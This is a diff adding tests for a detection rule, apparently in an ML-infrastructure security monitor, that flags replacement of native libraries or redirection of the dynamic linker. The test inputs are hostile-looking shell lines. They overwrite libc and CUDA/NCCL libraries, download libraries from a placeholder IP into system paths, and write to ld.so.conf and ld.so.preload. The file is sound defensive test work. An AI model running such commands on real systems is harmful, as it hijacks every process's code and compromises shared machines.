@@ -5,7 +5,8 @@
  * training pod runs every day (requirements files, vendor indexes, an internal mirror by name, a
  * Git checkout), which it leaves. Models loaded with a hub's own code allowed to run
  * (MLS-POISON-010), and the loads that run none. An installed library changed by hand (MLS-POISON-011),
- * and a hub cache's files replaced (MLS-POISON-007).
+ * and a hub cache's files replaced (MLS-POISON-007). A native library replaced where every process
+ * loads it from, or the dynamic linker pointed elsewhere (MLS-POISON-016).
  */
 import { describe, expect, it } from 'vitest';
 import { execRuleIds, SA } from './exec-events.test-support.js';
@@ -130,5 +131,46 @@ describe('MLS-POISON-011 and -007: an installed library changed, a hub cache rep
       expect(ids, argv.join(' ')).not.toContain('MLS-POISON-011');
       expect(ids, argv.join(' ')).not.toContain('MLS-POISON-007');
     }
+  });
+});
+
+describe('MLS-POISON-016: exec replaces a native library or the linker\'s search path', () => {
+  it('escalates a shared library copied, downloaded or unpacked into a system, CUDA or /opt library directory, and ld.so.conf written', () => {
+    for (const line of [
+      'cp /tmp/libnccl.so.2 /usr/lib/x86_64-linux-gnu/libnccl.so.2',
+      'cp /tmp/libnccl.so.2.21.5 /usr/lib/x86_64-linux-gnu/',
+      'install -m 755 /dev/shm/x.so /lib/x86_64-linux-gnu/libc.so.6',
+      'curl -sSo /usr/local/cuda/lib64/libcudart.so.12 http://203.0.113.9/c',
+      'wget -O /usr/local/cuda-12.4/targets/x86_64-linux/lib/libcublas.so.12 http://203.0.113.9/b',
+      'mv /tmp/n.so /usr/local/nvidia/lib64/libnvidia-ml.so.1',
+      'cp /tmp/libnccl-net.so /opt/hpcx/nccl_rdma_sharp_plugin/lib/',
+      'cd /usr/local/lib && cp /tmp/libjemalloc.so.2 .',
+      'tar xzf /tmp/nccl.tgz -C /usr/lib/x86_64-linux-gnu',
+      'tar xf /tmp/cudnn.tar -C /usr/local/cuda/lib64',
+      'echo /dev/shm/lib > /etc/ld.so.conf.d/00-x.conf && ldconfig',
+      'echo /tmp/l >> /etc/ld.so.conf',
+    ]) {
+      expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-016');
+      expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-016');
+    }
+  });
+
+  it('leaves libraries read, listed or staged, one built in a workspace, site-packages (MLS-POISON-011) and the preload file (MLS-RAY-016)', () => {
+    for (const line of [
+      'ldd /usr/lib/x86_64-linux-gnu/libnccl.so.2',
+      'ls -la /usr/local/cuda/lib64/ > /tmp/libs.txt',
+      'cp /usr/lib/x86_64-linux-gnu/libnccl.so.2 /tmp/',
+      'curl -o /tmp/libx.so http://203.0.113.9/x',
+      'cp build/libfoo.so /workspace/project/lib/',
+      'cat /etc/ld.so.conf.d/*.conf',
+      'ldconfig -p | grep nccl',
+      'cp /usr/local/lib/libfoo.so /usr/local/lib/libfoo.so.bak',
+    ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-016');
+    const torchLib = 'cp /tmp/x.so /usr/local/lib/python3.10/site-packages/torch/lib/libtorch_cuda.so';
+    expect(execRuleIds(sh(torchLib))).toContain('MLS-POISON-011');
+    expect(execRuleIds(sh(torchLib))).not.toContain('MLS-POISON-016');
+    const preload = 'echo /tmp/x.so > /etc/ld.so.preload';
+    expect(execRuleIds(sh(preload))).toContain('MLS-RAY-016');
+    expect(execRuleIds(sh(preload))).not.toContain('MLS-POISON-016');
   });
 });
